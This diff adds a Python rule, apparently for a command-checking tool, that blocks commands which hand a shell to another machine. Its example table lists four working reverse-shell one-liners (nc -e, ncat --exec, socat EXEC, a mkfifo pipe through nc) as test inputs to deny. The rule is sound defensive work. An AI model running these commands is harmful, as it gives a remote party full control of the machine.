@@ -1,0 +1,35 @@
+"""Stops programs that hand a shell on this machine to another one.
+
+Why: whoever listens there may do everything that you may.
+"""
+
+from __future__ import annotations
+
+from hookwright.rules import deny, shown
+
+TYPE_CHECKING = False
+if TYPE_CHECKING:
+    from hookwright.rules import Finding, Scene
+    from hookwright.shell.command import Call
+
+ID = "reverse-shell"
+EXAMPLES = {
+    "nc -e /bin/sh 10.0.0.1 4444": "deny",
+    "ncat --exec /bin/bash 10.0.0.1 4444": "deny",
+    "socat TCP:10.0.0.1:4444 EXEC:/bin/sh": "deny",
+    "rm -f /tmp/f; mkfifo /tmp/f; cat /tmp/f | sh -i 2>&1 | nc 10.0.0.1 4444 > /tmp/f": "deny",
+    "nc -z localhost 5432": None,
+    "nc -l 8080": None,
+    "echo hi | nc localhost 80": None,
+}
+
+SHELLS = frozenset("sh bash zsh dash ksh".split())
+
+
+def check(call: Call, scene: Scene) -> Finding | None:
+    hit = call.has_flag("-e", "-c", "--exec", "--sh-exec") and call.program != "socat"
+    if call.program == "socat":
+        hit = any(word.upper().startswith(("EXEC:", "SYSTEM:")) for word in call.args)
+    if any(source.program in SHELLS and source.has_flag("-i") for source in call.producers):
+        hit = True
+    return deny(f"`{shown(call)}` hands a shell on this machine to another one", "ss -tn") if hit else None
